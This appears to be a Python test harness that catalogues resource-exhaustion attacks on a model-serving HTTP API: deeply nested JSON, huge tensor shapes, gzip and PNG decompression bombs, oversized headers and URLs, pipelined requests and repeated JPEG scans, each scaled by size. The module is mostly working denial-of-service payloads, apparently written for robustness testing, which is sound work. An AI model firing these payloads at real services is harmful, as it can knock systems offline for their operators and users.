"""Requests that cost the service more than their client: each of them by size.

Every attack is one of a kind; shapes, keys, texts and files are what the kinds were found with.
"""

import gzip
import json
import socket
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from urllib.parse import urlsplit

import requests

TIMEOUT = 60.0
JSON = {"Content-Type": "application/json"}
Send = Callable[[str, int], str]


@dataclass(frozen=True)
class Attack:
    """``send(url, size)`` sends it and returns what came back, in a word: a status, or "closed".

    ``small`` and ``large`` are sizes, in the unit of the attack, for tests and for the script.
    """

    name: str
    unit: str
    send: Send
    small: tuple[int, ...]
    large: tuple[int, ...]
    bytes_each: int = 1


def posted(url: str, path: str, body: bytes, **headers: str) -> str:
    try:
        given = {**JSON, **{name.replace("_", "-"): value for name, value in headers.items()}}
        answer = requests.post(url + path, data=body, headers=given, timeout=TIMEOUT)
    except requests.ConnectionError:
        return "closed"
    return str(answer.status_code)


def raw(url: str, data: bytes, *, wait: float = TIMEOUT) -> str:
    place = urlsplit(url)
    with socket.create_connection((place.hostname or "", place.port or 0), timeout=wait) as pipe:
        try:
            pipe.sendall(data)
            head = pipe.recv(4096)
        except TimeoutError:
            return "no answer"
        except OSError:
            return "closed"
    return head[9:12].decode("latin-1") if head else "closed"


DIGITS, PREDICT = "/v2/models/digits/infer", "/v1/models/digits:predict"


def long_shape(url: str, size: int) -> str:
    one = {"name": "image", "shape": [281474976710655] * size, "datatype": "FP32", "data": [1]}
    return posted(url, DIGITS, json.dumps({"inputs": [one]}).encode())


def many_keys(url: str, size: int) -> str:
    body = json.dumps({"inputs": {f"k{one}": 1 for one in range(size)}}).encode()
    return posted(url, PREDICT, body)


def many_top_keys(url: str, size: int) -> str:
    body = json.dumps({**{f"k{one}": 1 for one in range(size)}, "inputs": []}).encode()
    return posted(url, DIGITS, body)


def text_among_numbers(url: str, size: int) -> str:
    return posted(url, PREDICT, json.dumps({"instances": ["x" * size] + [""] * size}).encode())


def empty_lists(url: str, size: int) -> str:
    return posted(url, PREDICT, b'{"instances":[' + b",".join([b"[]"] * size) + b"]}")


def empty_objects(url: str, size: int) -> str:
    return posted(url, PREDICT, b'{"instances":[' + b",".join([b"{}"] * size) + b"]}")


def small_numbers(url: str, size: int) -> str:
    return posted(url, PREDICT, b'{"instances":[[' + b",".join([b"1"] * size) + b"]]}")


def long_number(url: str, size: int) -> str:
    return posted(url, PREDICT, b'{"instances":[[' + b"1" * size + b"]]}")


def deep_json(url: str, size: int) -> str:
    return posted(url, PREDICT, b'{"instances":' + b"[" * size + b"]" * size + b"}")


def repeated_outputs(url: str, size: int) -> str:
    row = {"name": "image", "shape": [1, 64], "datatype": "FP32", "data": [0.0] * 64}
    body = {"inputs": [row], "outputs": [{"name": "probabilities"}] * size}
    return posted(url, DIGITS, json.dumps(body).encode())


def rows_without_numbers(url: str, size: int) -> str:
    row = {"name": "x", "shape": [size, 0], "datatype": "FP32", "data": []}
    body = json.dumps({"inputs": [row]}).encode()
    return posted(url, "/v2/models/any-length/infer", body, X_Request_Timeout="2")


def dear_value(url: str, size: int) -> str:
    """Cheap for 1, without end for 10^12: the length of a loop."""
    body = json.dumps({"instances": [[size]]}).encode()
    return posted(url, "/v1/models/repeating:predict", body, X_Request_Timeout="2")


def long_header(url: str, size: int) -> str:
    return raw(url, b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\nX-A: " + b"a" * size)


def many_headers(url: str, size: int) -> str:
    head = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n" + b"a: b\r\n" * size
    return raw(url, head + b"\r\n")


def long_url(url: str, size: int) -> str:
    return raw(url, b"GET /" + b"a" * size + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")


def many_encodings(url: str, size: int) -> str:
    head = b"GET /v2 HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: " + b"a," * size
    return raw(url, head + b"\r\n\r\n")


def pipelined(url: str, size: int) -> str:
    return raw(url, b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n" * size, wait=5)


def zeros_in_gzip(url: str, size: int) -> str:
    return posted(url, PREDICT, gzip.compress(b"0" * size), Content_Encoding="gzip")


def spaces_in_gzip(url: str, size: int) -> str:
    body = b'{"instances":' + b" " * size + b"[[1]]}"
    return posted(url, PREDICT, gzip.compress(body), Content_Encoding="gzip")


def many_parts(url: str, size: int) -> str:
    part = b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n\r\n'
    form = "multipart/form-data; boundary=b"
    body = part * size + b"--b--\r\n"
    return posted(url, "/models/colours/classify", body, Content_Type=form)


def _png(width: int, height: int, rows: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = zlib.compress(b"\0" * ((width * 4 + 1) * rows), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def picture_of_many_pixels(url: str, size: int) -> str:
    body = _png(size, size, size)
    return posted(url, "/models/colours/classify", body, Content_Type="image/png")


def picture_that_ends_early(url: str, size: int) -> str:
    body = _png(1, size, min(size, 100))
    return posted(url, "/models/colours/classify", body, Content_Type="image/png")


def progressive_scans(url: str, size: int) -> str:
    """A JPEG whose last scan comes again and again."""
    from PIL import Image

    file = BytesIO()
    Image.new("RGB", (1024, 1024)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    start = data.rindex(b"\xff\xda")
    body = data[:start] + data[start:-2] * size + data[-2:]
    headers = {"Content_Type": "image/jpeg", "X_Request_Timeout": "2"}
    return posted(url, "/models/colours/classify", body, **headers)


ATTACKS = (
    Attack("axes of a shape", "axes", long_shape, (2_000, 4_000), (20_000, 40_000, 80_000), 17),
    Attack("keys of inputs", "keys", many_keys, (5_000, 10_000), (20_000, 40_000, 160_000), 9),
    Attack("keys of a body", "keys", many_top_keys, (5_000, 10_000), (20_000, 40_000, 160_000), 9),
    Attack("text among numbers", "characters", text_among_numbers, (5_000, 10_000),
           (20_000, 40_000, 80_000), 4),
    Attack("empty lists", "lists", empty_lists, (20_000, 40_000), (80_000, 1_000_000), 3),
    Attack("empty objects", "objects", empty_objects, (20_000, 40_000), (80_000, 1_000_000), 3),
    Attack("small numbers", "numbers", small_numbers, (50_000, 100_000), (1_000_000, 10_000_000), 2),
    Attack("digits of a number", "digits", long_number, (50_000, 100_000), (1_000_000, 10_000_000)),
    Attack("depth of JSON", "levels", deep_json, (1_000, 10_000), (100_000, 1_000_000), 2),
    Attack("the same output again", "outputs", repeated_outputs, (500, 1_000), (6_000, 60_000), 25),
    Attack("rows without numbers", "rows", rows_without_numbers, (10**6, 10**7), (10**9, 2**40), 0),
    Attack("a value that loops", "runs", dear_value, (10**3, 10**5), (10**8, 10**12), 0),
    Attack("a header without end", "bytes", long_header, (10**5, 10**6), (10**7, 10**8)),
    Attack("headers", "headers", many_headers, (10**4, 10**5), (10**6, 10**7), 6),
    Attack("a URL", "bytes", long_url, (10**5, 10**6), (10**7, 10**8)),
    Attack("encodings that are accepted", "names", many_encodings, (10**4, 10**5), (10**6,), 2),
    Attack("requests in a pipeline", "requests", pipelined, (1_000, 2_000), (20_000, 200_000), 49),
    Attack("zeros in gzip", "bytes", zeros_in_gzip, (10**6, 10**7), (10**8, 10**9), 0),
    Attack("spaces in gzip", "bytes", spaces_in_gzip, (10**6, 10**7), (3 * 10**7, 10**9), 0),
    Attack("parts of a form", "parts", many_parts, (100, 1_000), (10_000, 100_000), 52),
    Attack("pixels", "pixels a side", picture_of_many_pixels, (500, 1_000), (3_500, 7_000), 0),
    Attack("a picture that ends early", "pixels", picture_that_ends_early, (10**5, 10**6),
           (10**7, 49 * 10**6), 0),
    Attack("scans of a JPEG", "scans", progressive_scans, (10, 50), (500, 2_000), 31),
)  # fmt: skip
